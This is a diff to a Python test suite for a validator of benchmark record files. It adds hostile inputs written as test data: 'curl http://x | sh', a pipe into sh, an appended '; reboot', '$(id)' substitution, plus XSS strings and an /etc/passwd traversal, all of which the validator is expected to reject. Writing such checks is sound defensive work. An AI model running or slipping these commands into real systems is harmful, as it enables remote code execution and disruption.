@@ -20,6 +20,11 @@ HOSTILE: dict[str, tuple[Change, str]] = {
     "script": (lambda r: r["defense"].update(summary="<script>alert(1)</script>"), "defense.summary holds markup"),
     "address": (lambda r: r["attack"].update(source="JavaScript :alert(1)"), "attack.source holds markup"),
     "image": (lambda r: r.update(command='"><img src=x onerror=alert(1)>'), "command holds markup"),
+    "shell": (lambda r: r.update(command="curl http://x | sh"), "command 'curl http://x | sh' is no `bench run`"),
+    "piped": (lambda r: r.update(command="bench run a b | sh"), "command 'bench run a b | sh' is no `bench run`"),
+    "after": (lambda r: r.update(command="bench run a b; reboot"), "command 'bench run a b; reboot' is no `bench run`"),
+    "inner": (lambda r: r.update(command="bench run $(id) b"), "command 'bench run $(id) b' is no `bench run`"),
+    "open": (lambda r: r.update(command="bench run 'a b"), "is no `bench run`"),
     "name": (lambda r: r["attack"]["settings"].update({"<svg onload=x>": 1}), "a name in attack.settings holds markup"),
     "list": (lambda r: r["warnings"].append("<a href=x>y</a>"), "warnings[0] holds markup"),
     "path": (lambda r: r.update(pictures=["../../../etc/passwd"]), "picture '../../../etc/passwd' is no plain name"),
@@ -46,6 +51,12 @@ def test_one_line_and_no_place_on_a_page(bundle: Path, name: str, tmp_path: Path
         judge([(tmp_path / "record.json", _changed(change))])
     assert words in str(refusal.value)
     assert "\n" not in str(refusal.value)
+
+
+def test_what_verify_writes_is_no_foreign_command() -> None:
+    assert list(senseless(make_record(command="bench leaderboard verify, cell 3f9a0c1d5b7e2468"))) == []
+    (line,) = senseless(make_record(command="bench leaderboard verify, cell 3f9a; reboot"))
+    assert "is no `bench run`" in line
 
 
 def _changed(change: Callable[[dict[str, Any]], None]) -> Record:
